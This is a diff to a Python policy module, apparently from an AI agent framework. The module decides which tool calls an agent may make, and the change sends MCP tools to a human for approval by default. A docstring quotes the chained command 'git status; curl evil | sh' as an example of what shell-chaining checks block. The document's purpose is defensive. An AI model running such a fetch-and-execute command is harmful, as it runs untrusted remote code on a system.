@@ -9,6 +9,7 @@ from dataclasses import dataclass
 from typing import Any
 
 from cadre.api.limits import parse_duration
+from cadre.api.names import MCP_TOOL_PREFIX
 from cadre.api.policy import Decision, Hook, HookPoint, PolicySpec, ToolRule
 from cadre.api.types import Obj
 
@@ -17,6 +18,15 @@ _CHAINING = (";", "&", "|", "`", "$(", "\n", ">", "<")
 """What joins or redirects commands in a shell: an ``Allow`` pattern matches a command holding
 one only if the pattern holds it too, so ``git status*`` never allows
 ``git status; curl evil | sh``."""
+
+
+def where(policy: str, rule: str) -> str:
+    """Which rule decided, for people: ``Policy p, rule`` or ``the default``."""
+    return f"Policy {policy}, {rule}" if policy else f"the default {rule}".strip()
+
+
+MCP_DEFAULT = "mcpDefault"
+MCP_MESSAGE = "MCP tools ask a human unless a Policy rule allows them"
 
 
 @dataclass(frozen=True)
@@ -29,8 +39,7 @@ class ToolDecision:
     on_timeout: str = "Reject"
 
     def explain(self) -> str:
-        where = f"Policy {self.policy}, {self.rule}" if self.policy else "the default"
-        return f"{where}" + (f": {self.message}" if self.message else "")
+        return where(self.policy, self.rule) + (f": {self.message}" if self.message else "")
 
     def to_event(self) -> Obj:
         return {"decision": self.decision.value, "policy": self.policy, "rule": self.rule,
@@ -118,10 +127,17 @@ class Governance:
                         rule.decision, name, rule.name or f"rule {index + 1}", rule.message,
                         parse_duration(spec.approval.timeout), spec.approval.on_timeout.value,
                     )  # fmt: skip
+        mcp = tool.startswith(MCP_TOOL_PREFIX)
         if not self.policies:
-            return ToolDecision(Decision.ALLOW)
+            # An MCP tool reaches outside the sandbox with a credential: a human says yes
+            # first unless a Policy rule allows it.
+            return ToolDecision(Decision.ASK, rule=MCP_DEFAULT, message=MCP_MESSAGE) if mcp else (
+                ToolDecision(Decision.ALLOW))  # fmt: skip
         name, spec = max(self.policies, key=lambda pair: _STRICTNESS[pair[1].default_decision])
         timeout = parse_duration(spec.approval.timeout)
+        if mcp and spec.default_decision == Decision.ALLOW:
+            return ToolDecision(Decision.ASK, name, MCP_DEFAULT, MCP_MESSAGE, timeout,
+                                spec.approval.on_timeout.value)  # fmt: skip
         return ToolDecision(spec.default_decision, name, "defaultDecision", "", timeout,
                             spec.approval.on_timeout.value)  # fmt: skip
 
